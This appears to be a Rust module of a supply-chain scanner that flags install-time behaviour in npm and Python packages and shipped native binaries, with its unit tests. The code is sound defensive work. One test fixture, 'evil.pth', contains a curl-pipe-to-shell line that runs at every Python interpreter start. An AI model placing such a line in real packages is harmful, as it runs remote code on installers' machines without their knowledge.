//! Install-time behaviour and package manifests (DESIGN §2 `install-script`, `native-binary`).
//!
//! - npm `package.json`: lifecycle scripts, implicit native builds (`binding.gyp`), `bin`
//!   entries and dependencies fetched from URLs or git ([`npm`]).
//! - Python: `setup.py` command overrides and import-time side effects, `pyproject.toml` build
//!   backends and build hooks, `setup.cfg`, entry points ([`python`]), and `.pth` files.
//! - Shipped native code: executables and shared objects (by content, whatever the name),
//!   `.node` addons, WebAssembly, Python bytecode without its source.
//!
//! A manifest at the package root is what an installer reads. A nested one (a workspace, a
//! vendored or bundled package, a test fixture) acts only when its folder is installed as a
//! package of its own, so its findings are one severity step lower and say so.

pub(crate) mod npm;
pub(crate) mod python;

use crate::archive::PackageTree;
use crate::finding::{Category, Finding, Severity};

/// Manifests larger than this are not parsed (one finding says so).
const MAX_MANIFEST_BYTES: usize = 4 * 1024 * 1024;

/// Every rule this module reports, with a one-line description (for SARIF rule metadata).
pub const RULES: &[(&str, &str)] = &[
    (
        "manifest.install-script.npm-install",
        "npm preinstall/install/postinstall script: runs on every install",
    ),
    (
        "manifest.install-script.npm-prepare",
        "npm prepare/prepack/prepublish script: runs for git and local installs or on publish",
    ),
    (
        "manifest.install-script.npm-uninstall",
        "npm uninstall lifecycle script",
    ),
    (
        "manifest.install-script.native-build",
        "binding.gyp without an install script: npm runs node-gyp rebuild at install",
    ),
    (
        "manifest.bin.entries",
        "commands the package installs (what npx runs)",
    ),
    (
        "manifest.bin.outside-package",
        "bin entry points outside the package",
    ),
    (
        "manifest.bin.missing",
        "bin entry names a file the package does not contain",
    ),
    (
        "manifest.unpinned.dependency-url",
        "dependency fetched from a URL or git ref instead of a registry version",
    ),
    (
        "manifest.dependency.git-pinned",
        "dependency fetched from git at a fixed commit",
    ),
    (
        "manifest.dependency.local-path",
        "dependency on a local path",
    ),
    (
        "manifest.package-json.invalid",
        "package.json could not be read",
    ),
    (
        "manifest.install-script.setup-cmdclass",
        "setup.py replaces setuptools commands (cmdclass)",
    ),
    (
        "manifest.install-script.setup-command-class",
        "setup.py defines a subclass of a setuptools/distutils command",
    ),
    (
        "manifest.install-script.setup-native-build",
        "setup.py compiles native extensions when built from source",
    ),
    (
        "manifest.install-script.setup-network",
        "setup.py opens network connections when it runs",
    ),
    (
        "manifest.install-script.setup-exec",
        "setup.py starts processes when it runs",
    ),
    (
        "manifest.install-script.setup-eval",
        "setup.py evaluates code or deserialises objects when it runs",
    ),
    (
        "manifest.install-script.setup-decode",
        "setup.py decodes or decompresses data when it runs",
    ),
    (
        "manifest.install-script.setup-too-large",
        "setup.py too large to analyse",
    ),
    (
        "manifest.install-script.setup-git-version",
        "setup.py runs git (typically to compute its version)",
    ),
    (
        "manifest.install-script.setup-exec-file",
        "setup.py executes another file of the package",
    ),
    (
        "manifest.install-script.in-tree-backend",
        "build backend loaded from the package itself (backend-path)",
    ),
    (
        "manifest.install-script.build-backend",
        "uncommon PEP 517 build backend",
    ),
    (
        "manifest.install-script.build-hook",
        "build hook or command override declared in pyproject.toml or setup.cfg",
    ),
    (
        "manifest.pyproject.invalid",
        "pyproject.toml could not be read",
    ),
    (
        "manifest.entry-points.console-scripts",
        "commands the Python package installs",
    ),
    (
        "manifest.install-script.pth-exec",
        ".pth line that Python executes at every interpreter start",
    ),
    (
        "manifest.install-script.pth-path",
        ".pth file adding import paths",
    ),
    (
        "manifest.native-binary.executable",
        "executable or shared library (ELF, PE, Mach-O)",
    ),
    (
        "manifest.native-binary.node-addon",
        "Node.js native addon (.node)",
    ),
    (
        "manifest.native-binary.named-binary",
        "file named like a binary that is not a recognised executable format",
    ),
    ("manifest.native-binary.wasm", "WebAssembly module"),
    (
        "manifest.native-binary.bytecode",
        "compiled Python bytecode",
    ),
];

/// Describe a rule of this module.
pub fn describe(rule: &str) -> Option<&'static str> {
    RULES.iter().find(|(id, _)| *id == rule).map(|(_, d)| *d)
}

/// Scan the manifests, install hooks and shipped binaries of a package.
pub fn scan_manifests(tree: &PackageTree) -> Vec<Finding> {
    let mut out = Vec::new();
    let mut sources = Sources::default();
    for (path, file) in tree.iter() {
        let name = file_name(path);
        let start = out.len();
        match name {
            "package.json" => npm::scan(tree, path, &file.bytes, &mut out),
            "setup.py" => python::setup_py(path, &file.bytes, &mut out),
            "pyproject.toml" => python::pyproject(tree, path, &file.bytes, &mut out),
            "setup.cfg" => python::setup_cfg(path, &file.bytes, &mut out),
            "entry_points.txt" if is_metadata_dir(parent(path)) => {
                python::entry_points_txt(path, &file.bytes, &mut out)
            }
            _ => {}
        }
        if is_nested(path) && name != "entry_points.txt" {
            soften(&mut out[start..]);
        }
        if name.to_ascii_lowercase().ends_with(".pth") {
            pth(path, &file.bytes, &mut out);
        }
        native(tree, &mut sources, path, &file.bytes, &mut out);
    }
    out
}

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The folder of a path (`""` at the root).
fn parent(path: &str) -> &str {
    path.rsplit_once('/').map_or("", |(d, _)| d)
}

/// `dir` + `/` + `rel` (no `/` when `dir` is the root).
fn join(dir: &str, rel: &str) -> String {
    if dir.is_empty() {
        rel.to_string()
    } else {
        format!("{dir}/{rel}")
    }
}

fn is_metadata_dir(dir: &str) -> bool {
    let last = file_name(dir);
    last.ends_with(".dist-info") || last.ends_with(".egg-info")
}

/// Whether a manifest sits below the package root. A wheel's `*.data/purelib|platlib/` counts as
/// the root: it is installed into site-packages like the wheel's top level.
fn is_nested(path: &str) -> bool {
    let dir = parent(path);
    if dir.is_empty() {
        return false;
    }
    let mut parts = dir.split('/');
    let in_wheel_data = matches!(
        (parts.next(), parts.next(), parts.next()),
        (Some(d), Some("purelib" | "platlib"), None) if d.ends_with(".data")
    );
    !in_wheel_data
}

/// One severity step lower, for manifests below the root.
fn soften(findings: &mut [Finding]) {
    for f in findings {
        f.severity = f.severity.lowered(1);
        f.message.push_str(
            " (nested manifest: acts only if this folder is installed as a package of its own)",
        );
        f.evidence.insert("nested".into(), true.into());
    }
}

/// Resolve `rel` against the folder `dir` inside the package; `None` when it leaves the package.
fn resolve(dir: &str, rel: &str) -> Option<String> {
    let rel = rel.replace('\\', "/");
    if rel.starts_with('/') || rel.as_bytes().get(1) == Some(&b':') {
        return None;
    }
    let mut parts: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
    for c in rel.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            c => parts.push(c),
        }
    }
    Some(parts.join("/"))
}

/// At most `max` characters of `s`, with `…` when cut.
fn clip(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        s.to_string()
    } else {
        let mut out: String = s.chars().take(max).collect();
        out.push('…');
        out
    }
}

fn at_line(mut f: Finding, line: Option<u32>) -> Finding {
    f.line = line;
    f
}

// ---------------------------------------------------------------------------------------------
// .pth files

/// `site.py` executes a `.pth` line that starts with `import ` or `import\t`; every other
/// non-comment line is added to `sys.path`.
fn pth(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    let text = String::from_utf8_lossy(bytes);
    let nested = is_nested(path);
    let mut paths = Vec::new();
    let mut first_path_line = None;
    for (i, line) in text.lines().enumerate() {
        let n = i as u32 + 1;
        if line.starts_with('#') || line.trim().is_empty() {
            continue;
        }
        let trimmed = line.trim_start();
        let is_import = |l: &str| l.starts_with("import ") || l.starts_with("import\t");
        if is_import(line) || is_import(trimmed) {
            let executed = is_import(line);
            let severity = match (executed, nested) {
                (true, false) => Severity::Critical,
                (true, true) | (false, false) => Severity::High,
                (false, true) => Severity::Medium,
            };
            let mut message = String::from(if executed {
                ".pth line is executed by Python at every interpreter start once installed"
            } else {
                "indented import line in a .pth file (site.py treats it as a path today, but it \
                 mimics an executed line)"
            });
            if nested {
                message.push_str(
                    "; this file is below the package root, so it runs only if installed into \
                     site-packages",
                );
            }
            let mut f = Finding::new(
                "manifest.install-script.pth-exec",
                Category::InstallScript,
                severity,
                path,
                message,
            )
            .with("code", clip(line.trim(), 400));
            f.line = Some(n);
            f.column = Some(1);
            f.end_line = Some(n);
            out.push(f);
        } else {
            first_path_line.get_or_insert(n);
            if paths.len() < 20 {
                paths.push(serde_json::Value::from(clip(line.trim(), 200)));
            }
        }
    }
    if !paths.is_empty() {
        out.push(at_line(
            Finding::new(
                "manifest.install-script.pth-path",
                Category::InstallScript,
                Severity::Low,
                path,
                ".pth file adds folders to sys.path at every interpreter start once installed",
            )
            .with("paths", paths),
            first_path_line,
        ));
    }
}

// ---------------------------------------------------------------------------------------------
// Native code

/// Executable formats recognised by their first bytes.
fn executable_format(b: &[u8]) -> Option<&'static str> {
    if b.starts_with(b"\x7fELF") {
        return Some("elf");
    }
    if b.starts_with(b"MZ") {
        let pe = b
            .get(0x3c..0x40)
            .map(|o| u32::from_le_bytes([o[0], o[1], o[2], o[3]]) as usize)
            .and_then(|off| b.get(off..off.checked_add(4)?))
            .is_some_and(|sig| sig == b"PE\0\0");
        return pe.then_some("pe");
    }
    let word = |i: usize| b.get(i..i + 4).map(|w| [w[0], w[1], w[2], w[3]]);
    match word(0) {
        Some([0xfe, 0xed, 0xfa, 0xce | 0xcf]) | Some([0xce | 0xcf, 0xfa, 0xed, 0xfe]) => {
            Some("mach-o")
        }
        // A universal binary shares its magic with Java class files; the architecture count
        // (< 20) tells them apart from a class file's version (≥ 45).
        Some([0xca, 0xfe, 0xba, 0xbe]) => match word(4) {
            Some(n) if (1..20).contains(&u32::from_be_bytes(n)) => Some("mach-o-universal"),
            _ => None,
        },
        _ => None,
    }
}

const SOURCE_EXTS: &[&str] = &[
    "wat", "wast", "rs", "c", "cc", "cpp", "cxx", "h", "zig", "go", "ts", "as",
];

fn stem(path: &str) -> &str {
    let name = file_name(path);
    name.rsplit_once('.').map_or(name, |(s, _)| s)
}

fn ext(path: &str) -> String {
    file_name(path)
        .rsplit_once('.')
        .map_or(String::new(), |(_, e)| e.to_ascii_lowercase())
}

/// Source files by lower-case stem, built on the first WebAssembly module (one pass over the
/// tree, however many modules follow).
#[derive(Default)]
struct Sources(Option<std::collections::HashMap<String, String>>);

impl Sources {
    fn find(&mut self, tree: &PackageTree, stem: &str) -> Option<&str> {
        let map = self.0.get_or_insert_with(|| {
            let mut m = std::collections::HashMap::new();
            for (p, _) in tree.iter() {
                if SOURCE_EXTS.contains(&ext(p).as_str()) {
                    m.entry(self::stem(p).to_ascii_lowercase())
                        .or_insert_with(|| p.to_string());
                }
            }
            m
        });
        map.get(&stem.to_ascii_lowercase()).map(String::as_str)
    }
}

fn native(
    tree: &PackageTree,
    sources: &mut Sources,
    path: &str,
    bytes: &[u8],
    out: &mut Vec<Finding>,
) {
    let ext = ext(path);
    let format = executable_format(bytes);
    if ext == "node" {
        let mut f = Finding::new(
            "manifest.native-binary.node-addon",
            Category::NativeBinary,
            Severity::High,
            path,
            "Node.js native addon: compiled code loaded into the server process by require(); \
             its source is not in the package",
        );
        if let Some(fmt) = format {
            f = f.with("format", fmt);
        }
        out.push(f);
        return;
    }
    if let Some(fmt) = format {
        let language = super::lang::guess(path, bytes);
        let mut f = Finding::new(
            "manifest.native-binary.executable",
            Category::NativeBinary,
            Severity::High,
            path,
            format!("compiled executable or shared library ({fmt}); its source is not analysed"),
        )
        .with("format", fmt);
        if !matches!(language, "native" | "binary") && !ext.is_empty() {
            f.message
                .push_str(&format!("; the file is named like {language} (.{ext})"));
            f = f.with("named_as", language);
        }
        out.push(f);
        return;
    }
    match ext.as_str() {
        "so" | "dylib" | "dll" | "exe" => out.push(
            Finding::new(
                "manifest.native-binary.named-binary",
                Category::NativeBinary,
                Severity::Low,
                path,
                format!(".{ext} file that is not a recognised executable format"),
            )
            .with("extension", ext.as_str()),
        ),
        "wasm" => wasm(tree, sources, path, out),
        "pyc" | "pyo" => bytecode(tree, path, out),
        _ if bytes.starts_with(b"\0asm") => wasm(tree, sources, path, out),
        _ => {}
    }
}

fn wasm(tree: &PackageTree, sources: &mut Sources, path: &str, out: &mut Vec<Finding>) {
    // wasm-bindgen names its output `<crate>_bg.wasm`.
    let s = stem(path);
    let s = s.strip_suffix("_bg").unwrap_or(s);
    let source = sources.find(tree, s).map(str::to_string);
    let f = match source {
        Some(src) => Finding::new(
            "manifest.native-binary.wasm",
            Category::NativeBinary,
            Severity::Info,
            path,
            "WebAssembly module; a source file of the same name ships with it (not compared)",
        )
        .with("source", src),
        None => Finding::new(
            "manifest.native-binary.wasm",
            Category::NativeBinary,
            Severity::Medium,
            path,
            "WebAssembly module without its source in the package",
        ),
    };
    out.push(f);
}

fn bytecode(tree: &PackageTree, path: &str, out: &mut Vec<Finding>) {
    // `pkg/__pycache__/mod.cpython-311.pyc` ↔ `pkg/mod.py`; `pkg/mod.pyc` ↔ `pkg/mod.py`.
    let dir = parent(path);
    let module = stem(path);
    let source = if file_name(dir) == "__pycache__" {
        let module = module.split('.').next().unwrap_or(module);
        join(parent(dir), &format!("{module}.py"))
    } else {
        join(dir, &format!("{module}.py"))
    };
    let f = if tree.get(&source).is_some() {
        Finding::new(
            "manifest.native-binary.bytecode",
            Category::NativeBinary,
            Severity::Info,
            path,
            "compiled Python bytecode shipped beside its source; Python may load it instead of \
             the source (not compared)",
        )
        .with("source", source)
    } else {
        Finding::new(
            "manifest.native-binary.bytecode",
            Category::NativeBinary,
            Severity::Medium,
            path,
            "compiled Python bytecode without its source: the code that runs cannot be read",
        )
    };
    out.push(f);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::PackageFile;

    pub(super) fn tree(files: &[(&str, &[u8])]) -> PackageTree {
        let mut t = PackageTree::new();
        for (p, b) in files {
            t.insert(
                *p,
                PackageFile {
                    bytes: b.to_vec(),
                    size: b.len() as u64,
                    truncated: false,
                    executable: false,
                },
            );
        }
        t
    }

    pub(super) fn rules(f: &[Finding]) -> Vec<(&str, Severity)> {
        f.iter().map(|f| (f.rule.as_str(), f.severity)).collect()
    }

    #[test]
    fn every_reported_rule_is_described() {
        for (id, d) in RULES {
            assert!(id.starts_with("manifest."), "{id}");
            assert!(!d.is_empty());
        }
        assert!(describe("manifest.install-script.pth-exec").is_some());
        assert!(describe("js.eval.eval").is_none());
    }

    #[test]
    fn every_rule_in_the_source_is_listed() {
        let sources = [
            include_str!("manifest.rs"),
            include_str!("manifest/npm.rs"),
            include_str!("manifest/python.rs"),
        ];
        let mut seen = 0;
        for src in sources {
            for (i, _) in src.match_indices("\"manifest.") {
                let rest = &src[i + 1..];
                let id = &rest[..rest.find('"').unwrap_or(0)];
                if id.ends_with('.') || id.ends_with(".rs") || id.contains(' ') {
                    continue;
                }
                assert!(describe(id).is_some(), "{id} is not in RULES");
                seen += 1;
            }
        }
        assert!(seen > RULES.len(), "the scan found the rule ids ({seen})");
    }

    #[test]
    fn pth_import_lines_are_critical_paths_low() {
        let t = tree(&[(
            "evil.pth",
            b"# comment\nimport os; os.system('curl x | sh')\n/opt/lib\n  import sys\n",
        )]);
        let f = scan_manifests(&t);
        assert_eq!(
            rules(&f),
            [
                ("manifest.install-script.pth-exec", Severity::Critical),
                ("manifest.install-script.pth-exec", Severity::High),
                ("manifest.install-script.pth-path", Severity::Low),
            ]
        );
        assert_eq!(f[0].line, Some(2));
        assert_eq!(f[1].line, Some(4));
        assert_eq!(f[2].evidence["paths"], serde_json::json!(["/opt/lib"]));
    }

    #[test]
    fn pth_below_the_root_is_softer_but_wheel_data_is_root() {
        let t = tree(&[
            ("tests/fixtures/a.pth", b"import x\n"),
            ("demo-1.0.data/purelib/b.pth", b"import y\n"),
            ("plain.pth", b"src\n"),
        ]);
        let f = scan_manifests(&t);
        let by_path = |p: &str| f.iter().find(|f| f.path == p).map(|f| f.severity);
        assert_eq!(by_path("tests/fixtures/a.pth"), Some(Severity::High));
        assert_eq!(
            by_path("demo-1.0.data/purelib/b.pth"),
            Some(Severity::Critical)
        );
        assert_eq!(by_path("plain.pth"), Some(Severity::Low));
    }

    #[test]
    fn native_binaries_by_content_and_name() {
        let mut pe = vec![0u8; 0x80];
        pe[0] = b'M';
        pe[1] = b'Z';
        pe[0x3c] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        let t = tree(&[
            ("build/Release/addon.node", b"\x7fELF\x02\x01\x01"),
            ("bin/tool", b"\x7fELF\x02\x01\x01"),
            ("assets/logo.png", &[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
            ("win/x.exe", &pe),
            ("lib/readme.so", b"GROUP ( libc.so.6 )"),
            ("MZ.txt", b"MZ is a text file"),
            ("Foo.class", &[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
            ("data/weights.bin", b"\x01\x02\x03"),
        ]);
        let f = scan_manifests(&t);
        let got: Vec<(&str, &str, Severity)> = f
            .iter()
            .map(|f| (f.path.as_str(), f.rule.as_str(), f.severity))
            .collect();
        assert_eq!(
            got,
            [
                (
                    "assets/logo.png",
                    "manifest.native-binary.executable",
                    Severity::High
                ),
                (
                    "bin/tool",
                    "manifest.native-binary.executable",
                    Severity::High
                ),
                (
                    "build/Release/addon.node",
                    "manifest.native-binary.node-addon",
                    Severity::High
                ),
                (
                    "lib/readme.so",
                    "manifest.native-binary.named-binary",
                    Severity::Low
                ),
                (
                    "win/x.exe",
                    "manifest.native-binary.executable",
                    Severity::High
                ),
            ]
        );
        assert_eq!(f[0].evidence["named_as"], "image");
        assert_eq!(f[4].evidence["format"], "pe");
    }

    #[test]
    fn wasm_with_and_without_source() {
        let t = tree(&[
            ("pkg/engine_bg.wasm", b"\0asm\x01\0\0\0"),
            ("src/engine.rs", b"fn main(){}"),
            ("dist/blob.wasm", b"\0asm\x01\0\0\0"),
            ("dist/hidden.dat", b"\0asm\x01\0\0\0"),
        ]);
        let f = scan_manifests(&t);
        assert_eq!(
            rules(&f),
            [
                ("manifest.native-binary.wasm", Severity::Medium),
                ("manifest.native-binary.wasm", Severity::Medium),
                ("manifest.native-binary.wasm", Severity::Info),
            ]
        );
        assert_eq!(f[2].evidence["source"], "src/engine.rs");
    }

    #[test]
    fn bytecode_with_and_without_source() {
        let t = tree(&[
            ("pkg/__pycache__/mod.cpython-311.pyc", b"\x6f\x0d\x0d\x0a"),
            ("pkg/mod.py", b"x = 1\n"),
            ("pkg/secret.pyc", b"\x6f\x0d\x0d\x0a"),
        ]);
        let f = scan_manifests(&t);
        assert_eq!(
            rules(&f),
            [
                ("manifest.native-binary.bytecode", Severity::Info),
                ("manifest.native-binary.bytecode", Severity::Medium),
            ]
        );
        assert_eq!(f[0].evidence["source"], "pkg/mod.py");
    }

    #[test]
    fn path_resolution_stays_inside() {
        assert_eq!(resolve("", "./bin/x.js").as_deref(), Some("bin/x.js"));
        assert_eq!(resolve("a/b", "../c").as_deref(), Some("a/c"));
        assert_eq!(resolve("a", "../../c"), None);
        assert_eq!(resolve("", "/usr/bin/env"), None);
        assert_eq!(resolve("", "C:\\x"), None);
        assert!(is_nested("packages/x/package.json"));
        assert!(!is_nested("package.json"));
        assert!(!is_nested("x-1.0.data/platlib/a.pth"));
    }
}
